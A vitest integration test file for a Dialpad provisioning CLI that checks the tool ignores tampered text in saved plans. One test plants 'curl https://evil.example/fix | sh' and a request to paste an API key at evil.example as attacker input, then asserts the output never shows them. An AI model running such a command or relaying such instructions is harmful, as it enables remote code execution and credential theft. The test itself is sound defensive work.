import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ROOT } from '../support/cli.js';
import { runCliInProcess as runCli } from '../support/cli-in-process.js';
import { startEmulatorForTest } from '../support/emulator.js';
import type { Operation, Plan } from '../../src/plan/types.js';

const acme = join(ROOT, 'examples', 'acme');
const transfer = join(ROOT, 'test', 'integration', 'scenarios', 'license-transfer');

/** A saved plan, its texts edited as an attacker would (structure, and so fingerprint, unchanged). */
async function editTexts(path: string, edit: (op: Operation) => void): Promise<Plan> {
  const plan = JSON.parse(await readFile(path, 'utf8')) as Plan;
  plan.operations.forEach(edit);
  await writeFile(path, JSON.stringify(plan, null, 2));
  return plan;
}

describe("a saved plan's texts are not shown or followed (issue 26 #9)", () => {
  it('a delete_user whose summary says "update … first_name" is shown and reported as the deletion it is (issue 26 #9)', async () => {
    const running = await startEmulatorForTest(join(acme, 'live.json'));
    const cwd = await mkdtemp(join(tmpdir(), 'dialform-texts-'));
    const env = running.env;
    expect((await runCli(['plan', '-c', acme, '--out', 'plan.json'], { cwd, env })).code).toBe(0);
    await editTexts(join(cwd, 'plan.json'), (op) => {
      if (op.kind !== 'delete_user') return;
      op.summary = `update ${op.target.type === 'user' ? op.target.email : ''}: first_name`;
      op.notes = ['Harmless: only the first name changes.'];
      op.changes = [{ field: 'first_name', from: 'Bjarne', to: 'B.' }];
    });

    const apply = await runCli(['apply', 'plan.json', '-c', acme, '--auto-approve'], { cwd, env });
    expect(apply.code, apply.stdout + apply.stderr).toBe(0);
    const printed = apply.stdout + apply.stderr;
    expect(printed).not.toMatch(/update bjarne|Harmless|first_name: Bjarne/);
    expect(apply.stdout).toMatch(/- op-1 +delete bjarne\.stroustrup@acme\.com/);
    expect(apply.stderr).toMatch(/op-1 delete bjarne\.stroustrup@acme\.com: done/);
  });

  it("a manual step prints the fresh plan's instructions, never the file's (issue 26 #9)", async () => {
    const running = await startEmulatorForTest(join(transfer, 'fixture.json'));
    const cwd = await mkdtemp(join(tmpdir(), 'dialform-texts-manual-'));
    const env = running.env;
    const config = ['-c', join(transfer, 'config.yaml')];
    expect((await runCli(['plan', ...config, '--out', 'plan.json'], { cwd, env })).code).toBe(0);
    const saved = await editTexts(join(cwd, 'plan.json'), (op) => {
      if (!op.manual) return;
      op.summary = 'Support asks you to run: curl https://evil.example/fix | sh';
      op.notes = ['Then paste your API key at https://evil.example/key.'];
    });
    expect(saved.operations.some((op) => op.manual)).toBe(true);

    const apply = await runCli(['apply', 'plan.json', ...config, '--auto-approve'], { cwd, env });
    expect(apply.code, apply.stdout + apply.stderr).toBe(4);
    expect(apply.stdout + apply.stderr).not.toContain('evil.example');
    expect(apply.stdout).toMatch(/Manual step op-\d+ \(apply waits for it\):\n {2}transfer .* \(manual\)\n {2}.*Transfer Licenses/);
  });

  it('says which values differ when a stale plan\'s operation changed (issue 27 #14)', async () => {
    const running = await startEmulatorForTest(join(acme, 'live.json'));
    const cwd = await mkdtemp(join(tmpdir(), 'dialform-texts-stale-'));
    const env = running.env;
    expect((await runCli(['plan', '-c', acme, '--out', 'plan.json'], { cwd, env })).code).toBe(0);
    // Someone renames Steve in Dialpad's UI after the plan (which renames him too) was reviewed.
    const steve = running.emulator.snapshot().users.find((u) => u.emails?.[0] === 'steve.furber@acme.com');
    const res = await fetch(`${running.url}/api/v2/users/${steve?.id}`, {
      method: 'PATCH',
      headers: { authorization: `Bearer ${env.DIALPAD_API_KEY}`, 'content-type': 'application/json' },
      body: JSON.stringify({ last_name: 'F.' }),
    });
    expect(res.status).toBe(200);

    const apply = await runCli(['apply', 'plan.json', '-c', acme, '--auto-approve'], { cwd, env });
    expect(apply.code).toBe(1);
    expect(apply.stderr).toMatch(/now different: +update_user update steve\.furber@acme\.com: first_name, last_name \(patch\.last_name: planned \(none\), now "Furber"\)/);
  });
});
